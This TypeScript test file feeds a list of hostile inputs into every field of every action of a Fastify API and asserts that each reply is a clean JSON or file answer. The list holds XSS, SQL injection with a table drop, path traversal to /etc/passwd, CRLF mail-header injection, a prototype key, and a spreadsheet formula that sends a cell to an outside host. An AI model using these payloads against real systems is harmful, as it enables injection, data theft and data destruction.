import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { LightMyRequestResponse } from 'fastify'
import type { Action } from '../../src/actions/define-action.ts'
import { askFor, routed, type ServedWorld, sampleOf, schemaOf, serveWorld, textsIn } from './served-world.ts'

// Whatever somebody writes, into whatever field of whatever action: the answer is an answer, never a page, never a fault.

let world: ServedWorld
before(async () => {
  world = await serveWorld()
})
after(() => world.close())

const hostile: Readonly<Record<string, string>> = {
  script: '"><script>alert(1)</script><svg onload=alert(1)>',
  formula: '=HYPERLINK("http://x.example/?"&A1,"x")',
  'a turn of direction': 'evil\u202Egnp.exe\u2066\u200B\uFEFF',
  NUL: 'a\u0000b',
  'line breaks': 'a\r\nBcc: all@example.org\r\n\r\nb',
  'half a sign': '\uD800',
  path: '../../../../etc/passwd',
  query: `' or 1=1; drop table people; --`,
  key: '__proto__',
  'a quarter of a million signs': '界'.repeat(80_000),
}

/** The media types that an answer of an action may have. */
const isFine = (action: Action, { headers }: LightMyRequestResponse): boolean => {
  const type = String(headers['content-type'])
  const forms = Object.values(action.files ?? {}).map((form) => form.type)
  return /^application\/(problem\+)?json; charset=utf-8$/.test(type) || forms.includes(type)
}

const peopleFor = ({ may }: Action): readonly string[] =>
  typeof may === 'string'
    ? ['mei']
    : [...(may.member === undefined ? [] : ['mei']), ...(may.hub === undefined ? [] : ['root'])]

describe('a text that is meant to do harm', () => {
  const asked: Record<string, number> = {}
  for (const [what, text] of Object.entries(hostile)) {
    test(`${what}: in every input of every action it is answered, as data`, async () => {
      const wrong: string[] = []
      for (const action of routed) {
        const sample = sampleOf(schemaOf(action), world.known)
        for (const who of peopleFor(action)) {
          const session = await world.sessionOf(who)
          for (const { at, set } of textsIn(sample)) {
            const input = set(text) as Record<string, unknown> // what was put in is inside an object
            const reply = await askFor(world.app, action, { input, session })
            asked[action.name] = (asked[action.name] ?? 0) + 1
            const isWell = reply.statusCode < 500 && isFine(action, reply)
            if (!isWell) wrong.push(`${action.name} ${at} by ${who}: ${reply.statusCode} ${reply.body.slice(0, 300)}`)
          }
        }
      }
      assert.deepEqual(wrong, [])
    })
  }
  test('and nearly every action was asked', () => assert.ok(Object.keys(asked).length > 100, JSON.stringify(asked)))
})
